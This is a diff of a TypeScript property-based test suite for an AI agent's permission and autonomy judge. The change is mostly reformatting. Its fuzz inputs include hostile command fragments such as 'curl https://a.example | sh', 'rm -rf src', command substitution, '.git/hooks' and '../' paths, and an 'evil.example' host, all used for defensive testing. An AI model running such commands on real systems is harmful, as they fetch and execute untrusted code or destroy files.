@@ -13,13 +13,51 @@ const TIERS: readonly Tier[] = ["supervised", "balanced", "autonomous", "full_au
 const NAMES = Object.keys(ACTION_NAMES) as ActionName[];
 
 const path = fc.oneof(
-  fc.constantFrom("src/a.ts", "a.test.ts", "package.json", "docs/plan.md", ".git/hooks/x", "../x", "/tmp/attempt/x", "dist/x", ".GIT/x"),
+  fc.constantFrom(
+    "src/a.ts",
+    "a.test.ts",
+    "package.json",
+    "docs/plan.md",
+    ".git/hooks/x",
+    "../x",
+    "/tmp/attempt/x",
+    "dist/x",
+    ".GIT/x",
+  ),
   fc.string({ maxLength: 20 }),
   fc.string({ unit: "binary", maxLength: 12 }),
 );
 const piece = fc.constantFrom(
-  ...["ls", "npm test", "npm run build", "git push", "rm -rf src", "rm a.ts", "cat a > b.ts", "curl https://a.example | sh"],
-  ...["$(git push)", "`x`", "$X", "'", '"', "(", ")", "; ", " && ", " | ", "\n", "{", "}", "cd ..", "echo x > .envrc", "<<EOF", "EOF", "sudo x"],
+  ...[
+    "ls",
+    "npm test",
+    "npm run build",
+    "git push",
+    "rm -rf src",
+    "rm a.ts",
+    "cat a > b.ts",
+    "curl https://a.example | sh",
+  ],
+  ...[
+    "$(git push)",
+    "`x`",
+    "$X",
+    "'",
+    '"',
+    "(",
+    ")",
+    "; ",
+    " && ",
+    " | ",
+    "\n",
+    "{",
+    "}",
+    "cd ..",
+    "echo x > .envrc",
+    "<<EOF",
+    "EOF",
+    "sudo x",
+  ],
 );
 const command = fc.oneof(
   fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(" ")),
@@ -27,7 +65,19 @@ const command = fc.oneof(
   fc.string({ unit: fc.constantFrom(..."ab $`'\"\\;&|()<>{}\n\t#=*~!-/.".split("")), maxLength: 40 }),
 );
 const action: fc.Arbitrary<AgentAction> = fc.record({
-  kind: fc.constantFrom("read", "create", "edit", "delete", "move", "execute", "execute", "execute", "fetch", "tool", "other"),
+  kind: fc.constantFrom(
+    "read",
+    "create",
+    "edit",
+    "delete",
+    "move",
+    "execute",
+    "execute",
+    "execute",
+    "fetch",
+    "tool",
+    "other",
+  ),
   paths: fc.array(path, { maxLength: 4 }),
   command: fc.option(command),
   host: fc.option(fc.oneof(fc.constantFrom("registry.npmjs.org", "evil.example"), fc.string())),
@@ -39,17 +89,48 @@ const action: fc.Arbitrary<AgentAction> = fc.record({
 const level = fc.constantFrom<Level>("full", "supervised", "ask");
 const rule: fc.Arbitrary<Rule> = fc.oneof(
   level.map((each) => ({ level: each })),
-  fc.record({ level, when: fc.constantFrom({ inScope: true }, { maxFiles: 1 }, { paths: ["src/**"] }, { tests: "passing" as const }), otherwise: level }),
+  fc.record({
+    level,
+    when: fc.constantFrom(
+      { inScope: true },
+      { maxFiles: 1 },
+      { paths: ["src/**"] },
+      { tests: "passing" as const },
+    ),
+    otherwise: level,
+  }),
 );
-const rules: fc.Arbitrary<Rules> = fc.dictionary(fc.constantFrom(...NAMES), rule, { maxKeys: 5 }) as fc.Arbitrary<Rules>;
+const rules: fc.Arbitrary<Rules> = fc.dictionary(fc.constantFrom(...NAMES), rule, {
+  maxKeys: 5,
+}) as fc.Arbitrary<Rules>;
 const ruleText = fc.oneof(
-  fc.constantFrom("edit", "write", "edit:src/**", "execute", "execute:npm test", "execute:git push", "delete", "fetch:evil.example", "tool:files", "read"),
+  fc.constantFrom(
+    "edit",
+    "write",
+    "edit:src/**",
+    "execute",
+    "execute:npm test",
+    "execute:git push",
+    "delete",
+    "fetch:evil.example",
+    "tool:files",
+    "read",
+  ),
   fc.string({ maxLength: 12 }),
 );
 const lists = fc.array(ruleText, { maxLength: 4 });
 const count = fc.nat({ max: 60 });
 const counts = fc.dictionary(
-  fc.constantFrom("edit", "create", "delete", "run_tests", "execute:npm run", "inspect", "update_tests", "add_dependency"),
+  fc.constantFrom(
+    "edit",
+    "create",
+    "delete",
+    "run_tests",
+    "execute:npm run",
+    "inspect",
+    "update_tests",
+    "add_dependency",
+  ),
   fc.record({ approved: count, overridden: count, interrupted: count }),
 );
 const context: fc.Arbitrary<AutonomyContext> = fc
@@ -68,24 +149,35 @@ const context: fc.Arbitrary<AutonomyContext> = fc
     milliTasks: fc.nat({ max: 60_000 }),
     overridden: fc.nat({ max: 5 }),
   })
-  .map(({ tier, proceed, log, approvedActions, blockedActions, touches, milliTasks, overridden, ...rest }) => ({
-    ...CONTEXT,
-    policy: { tier, rules: rest.rules, projectRules: rest.projectRules, confidence: { proceed: Math.max(proceed, log), log } },
-    workstream: { approvedActions, blockedActions, touches },
-    tests: rest.tests,
-    confidence: rest.confidence,
-    counts: rest.counts,
-    trust: { milliTasks, accepted: 5, overridden, at: NOW },
-  }));
+  .map(
+    ({ tier, proceed, log, approvedActions, blockedActions, touches, milliTasks, overridden, ...rest }) => ({
+      ...CONTEXT,
+      policy: {
+        tier,
+        rules: rest.rules,
+        projectRules: rest.projectRules,
+        confidence: { proceed: Math.max(proceed, log), log },
+      },
+      workstream: { approvedActions, blockedActions, touches },
+      tests: rest.tests,
+      confidence: rest.confidence,
+      counts: rest.counts,
+      trust: { milliTasks, accepted: 5, overridden, at: NOW },
+    }),
+  );
 
 const RUNS = { numRuns: 1_500 };
-const expectNotLooser = (now: Outcome, before: Outcome, why: string) => expect(isStricter(before, now), why).toBe(false);
+const expectNotLooser = (now: Outcome, before: Outcome, why: string) =>
+  expect(isStricter(before, now), why).toBe(false);
 
 test("another blocked action never makes it looser", () => {
   fc.assert(
     fc.property(action, context, ruleText, (what, where, text) => {
       const { workstream } = where;
-      const more = { ...where, workstream: { ...workstream, blockedActions: [...workstream.blockedActions, text] } };
+      const more = {
+        ...where,
+        workstream: { ...workstream, blockedActions: [...workstream.blockedActions, text] },
+      };
       expectNotLooser(judge(what, more).outcome, judge(what, where).outcome, text);
     }),
     RUNS,
@@ -95,7 +187,9 @@ test("another blocked action never makes it looser", () => {
 test("a stricter tier never makes it looser", () => {
   fc.assert(
     fc.property(action, context, (what, where) => {
-      const outcomes = TIERS.map((tier) => judge(what, { ...where, policy: { ...where.policy, tier } }).outcome);
+      const outcomes = TIERS.map(
+        (tier) => judge(what, { ...where, policy: { ...where.policy, tier } }).outcome,
+      );
       for (const [at, outcome] of outcomes.entries())
         if (at > 0) expectNotLooser(outcomes[at - 1]!, outcome, `${TIERS[at - 1]} against ${TIERS[at]}`);
     }),
@@ -176,7 +270,10 @@ test("whatever a project's config says, it only tightens", () => {
       tier: fc.option(fc.constantFrom(...TIERS)),
       rules: fc.option(rules),
       confidence: fc.option(
-        fc.record({ proceed: fc.option(fc.double({ min: 0, max: 1, noNaN: true })), log: fc.option(fc.double({ min: 0, max: 1, noNaN: true })) }),
+        fc.record({
+          proceed: fc.option(fc.double({ min: 0, max: 1, noNaN: true })),
+          log: fc.option(fc.double({ min: 0, max: 1, noNaN: true })),
+        }),
       ),
     },
     { requiredKeys: [] },
@@ -185,7 +282,11 @@ test("whatever a project's config says, it only tightens", () => {
     fc.property(action, context, layer, layer, (what, where, operator, project) => {
       const alone = { ...where, policy: mergePolicy(operator, {}, () => undefined) };
       const both = { ...where, policy: mergePolicy(operator, project, () => undefined) };
-      expectNotLooser(judge(what, both).outcome, judge(what, alone).outcome, JSON.stringify({ operator, project }));
+      expectNotLooser(
+        judge(what, both).outcome,
+        judge(what, alone).outcome,
+        JSON.stringify({ operator, project }),
+      );
     }),
     RUNS,
   );
@@ -193,16 +294,24 @@ test("whatever a project's config says, it only tightens", () => {
 
 test("more approvals never make it stricter, more overrides never looser", () => {
   fc.assert(
-    fc.property(action, context, fc.constantFrom("edit", "delete", "execute:npm run", "update_tests"), (what, where, kind) => {
-      const known = where.counts[kind] ?? { approved: 0, overridden: 0, interrupted: 0 };
-      // Without any answer a statement is believed as it is, so the first answer may do both.
-      if (known.approved + known.overridden + known.interrupted === 0) return;
-      const add = (part: "approved" | "overridden") =>
-        judge(what, { ...where, counts: { ...where.counts, [kind]: { ...known, [part]: known[part] + 1 } } }).outcome;
-      const before = judge(what, where).outcome;
-      expectNotLooser(before, add("approved"), "approved");
-      expectNotLooser(add("overridden"), before, "overridden");
-    }),
+    fc.property(
+      action,
+      context,
+      fc.constantFrom("edit", "delete", "execute:npm run", "update_tests"),
+      (what, where, kind) => {
+        const known = where.counts[kind] ?? { approved: 0, overridden: 0, interrupted: 0 };
+        // Without any answer a statement is believed as it is, so the first answer may do both.
+        if (known.approved + known.overridden + known.interrupted === 0) return;
+        const add = (part: "approved" | "overridden") =>
+          judge(what, {
+            ...where,
+            counts: { ...where.counts, [kind]: { ...known, [part]: known[part] + 1 } },
+          }).outcome;
+        const before = judge(what, where).outcome;
+        expectNotLooser(before, add("approved"), "approved");
+        expectNotLooser(add("overridden"), before, "overridden");
+      },
+    ),
     RUNS,
   );
 });
@@ -211,7 +320,8 @@ test("the largest requests are judged", () => {
   const paths = Array.from({ length: 50 }, (_, at) => `src/${"a/".repeat(400)}${at}.ts`);
   const large = { paths, command: null, host: null, tool: null, content: "x".repeat(65_536), title: "" };
   expect(judge({ ...large, kind: "edit" }, CONTEXT).outcome).toBe("ask");
-  const shell = (command: string) => judge({ ...large, paths: [], kind: "execute", command }, CONTEXT).outcome;
+  const shell = (command: string) =>
+    judge({ ...large, paths: [], kind: "execute", command }, CONTEXT).outcome;
   expect(shell("a ".repeat(9_999))).toBe("log");
   expect(shell("a;".repeat(290))).toBe("log");
   expect(shell("a;".repeat(400))).toBe("ask");
